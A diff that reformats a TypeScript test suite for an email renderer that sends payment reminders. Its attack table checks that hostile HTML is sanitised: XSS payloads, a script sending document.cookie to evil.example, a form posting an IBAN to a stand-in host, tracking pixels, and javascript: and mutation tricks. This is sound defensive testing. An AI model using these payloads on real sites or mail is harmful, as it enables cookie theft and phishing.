@@ -11,9 +11,18 @@ function renderHtml(body: string, customer: Customer = aCustomer()) {
   const texts = { it: { subject: 'Estratto conto %Cliente', body, format: 'html' as const } };
   const valid = aSetup({ groupByCustomer: true, levels: THREE_LEVELS });
   const setup = { ...valid, levels: valid.levels.map((level) => ({ ...level, texts })) };
-  const items = [anItem({ id: 'I1', documentNumber: 'FT 2026/001', documentDate: '2026-01-10', residual: 5000 })];
+  const items = [
+    anItem({ id: 'I1', documentNumber: 'FT 2026/001', documentDate: '2026-01-10', residual: 5000 }),
+  ];
   const today = '2026-03-15';
-  const [communication] = planReminders({ setup, today, customers: [customer], agents: [anAgent()], items, ledger: [] }).communications;
+  const [communication] = planReminders({
+    setup,
+    today,
+    customers: [customer],
+    agents: [anAgent()],
+    items,
+    ledger: [],
+  }).communications;
   if (communication === undefined) throw new Error('nothing planned');
   return renderEmail({ communication, setup, customer, agents: new Map([['A1', anAgent()]]), today });
 }
@@ -23,27 +32,87 @@ const inner = (html: string) => html.slice(html.indexOf('>') + 1, html.lastIndex
 
 /** Attacks, each with what must not reach the customer. */
 const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
-  ['script', '<p>Gentile %Cliente</p><script>fetch("https://evil.example/?c="+document.cookie)</script>', /<script|evil\.example/i],
+  [
+    'script',
+    '<p>Gentile %Cliente</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
+    /<script|evil\.example/i,
+  ],
   ['script, upper case and spaced', '<SCRIPT >alert(1)</SCRIPT ><p>ok</p>', /script|alert/i],
-  ['style element with remote url()', '<style>p{background:url(https://t.example/x.png)}</style><p>x</p>', /<style|url\(|t\.example/i],
-  ['style attribute with remote url()', '<p style="background-image:url(https://t.example/x.png)">x</p>', /style=|url\(|t\.example/i],
-  ['remote tracking image', '<img src="https://track.example/p.gif?c=%Cliente" width="1" height="1">', /<img|track\.example/i],
+  [
+    'style element with remote url()',
+    '<style>p{background:url(https://t.example/x.png)}</style><p>x</p>',
+    /<style|url\(|t\.example/i,
+  ],
+  [
+    'style attribute with remote url()',
+    '<p style="background-image:url(https://t.example/x.png)">x</p>',
+    /style=|url\(|t\.example/i,
+  ],
+  [
+    'remote tracking image',
+    '<img src="https://track.example/p.gif?c=%Cliente" width="1" height="1">',
+    /<img|track\.example/i,
+  ],
   ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">', /<img|data:/i],
-  ['form and inputs', '<form action="https://evil.example/steal" method="post"><input name="iban"><button>Paga</button></form>', /<form|<input|<button|evil\.example/i],
+  [
+    'form and inputs',
+    '<form action="https://evil.example/steal" method="post"><input name="iban"><button>Paga</button></form>',
+    /<form|<input|<button|evil\.example/i,
+  ],
   ['javascript: link', '<a href="javascript:alert(1)">paga</a>', /javascript|href/i],
-  ['entity-encoded javascript: link', '<a href="&#106;&#x61;vascript&colon;alert(1)">paga</a>', /javascript|alert|href/i],
-  ['javascript: link with a tab and leading spaces', '<a href="  java\tscript:alert(1)">paga</a>', /script|href/i],
-  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">paga</a>', /data:|href/i],
-  ['vbscript: and protocol-relative links', '<a href="vbscript:msgbox(1)">a</a><a href="//evil.example">b</a>', /vbscript|evil|href/i],
-  ['event handler attributes', '<p onclick="alert(1)" onmouseover=alert(2)>x</p><a href="https://ok.example" onfocus="alert(3)">y</a>', /\son\w+|alert/i],
-  ['svg tricks', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><svg/onload=alert(3)>', /svg|alert|script/i],
-  ['math tricks', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', /math|img|alert|onerror/i],
-  ['iframe, object and embed', '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">', /iframe|object|embed|evil|swf/i],
+  [
+    'entity-encoded javascript: link',
+    '<a href="&#106;&#x61;vascript&colon;alert(1)">paga</a>',
+    /javascript|alert|href/i,
+  ],
+  [
+    'javascript: link with a tab and leading spaces',
+    '<a href="  java\tscript:alert(1)">paga</a>',
+    /script|href/i,
+  ],
+  [
+    'data: link',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">paga</a>',
+    /data:|href/i,
+  ],
+  [
+    'vbscript: and protocol-relative links',
+    '<a href="vbscript:msgbox(1)">a</a><a href="//evil.example">b</a>',
+    /vbscript|evil|href/i,
+  ],
+  [
+    'event handler attributes',
+    '<p onclick="alert(1)" onmouseover=alert(2)>x</p><a href="https://ok.example" onfocus="alert(3)">y</a>',
+    /\son\w+|alert/i,
+  ],
+  [
+    'svg tricks',
+    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><svg/onload=alert(3)>',
+    /svg|alert|script/i,
+  ],
+  [
+    'math tricks',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    /math|img|alert|onerror/i,
+  ],
+  [
+    'iframe, object and embed',
+    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
+    /iframe|object|embed|evil|swf/i,
+  ],
   ['unclosed tags', '<p>ok<script>alert(1)', /script|alert/i],
   ['unclosed attribute', '<a href="https://ok.example onclick="alert(1)">x', /alert/i],
   ['comment hiding markup', '<!-- <script>alert(1)</script> --><p>ok</p>', /<!--|script|alert/i],
-  ['conditional comment', '<!--[if mso]><img src="https://track.example/p.gif"><![endif]--><p>ok</p>', /<!--|\[if|img|track/i],
-  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">', /meta|base|evil/i],
+  [
+    'conditional comment',
+    '<!--[if mso]><img src="https://track.example/p.gif"><![endif]--><p>ok</p>',
+    /<!--|\[if|img|track/i,
+  ],
+  [
+    'meta refresh and base',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
+    /meta|base|evil/i,
+  ],
   ['nested script split', '<scr<script>ipt>alert(1)</script>', /<script|<scr/i],
 ];
 
@@ -92,7 +161,10 @@ describe('placeholders inside tags', () => {
   const hostile = aCustomer({ name: '"><script>alert(1)</script><a href="javascript:x' });
 
   test('a value in text or in an attribute is HTML-escaped; an unquoted attribute comes out quoted', () => {
-    const html = renderHtml('<p title=%Cliente>Gentile %Cliente</p><td title="%Cliente">x</td>', hostile).html;
+    const html = renderHtml(
+      '<p title=%Cliente>Gentile %Cliente</p><td title="%Cliente">x</td>',
+      hostile,
+    ).html;
     const escaped = '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;a href=&quot;javascript:x';
     expect(html).toContain(`<p title="${escaped}">Gentile ${escaped}</p>`);
     expect(html).not.toContain('<script');
@@ -100,7 +172,10 @@ describe('placeholders inside tags', () => {
 
   test('a value after a literal allowed scheme stays in the link; a link that starts with a placeholder is removed', () => {
     const customer = aCustomer({ name: 'javascript:alert(1)' });
-    const html = renderHtml('<a href="https://pay.example/?c=%Cliente">paga</a><a href="%Cliente">x</a><a href=" %Cliente">y</a>', customer).html;
+    const html = renderHtml(
+      '<a href="https://pay.example/?c=%Cliente">paga</a><a href="%Cliente">x</a><a href=" %Cliente">y</a>',
+      customer,
+    ).html;
     expect(html).toContain('<a href="https://pay.example/?c=javascript:alert(1)">paga</a><a>x</a><a>y</a>');
   });
 
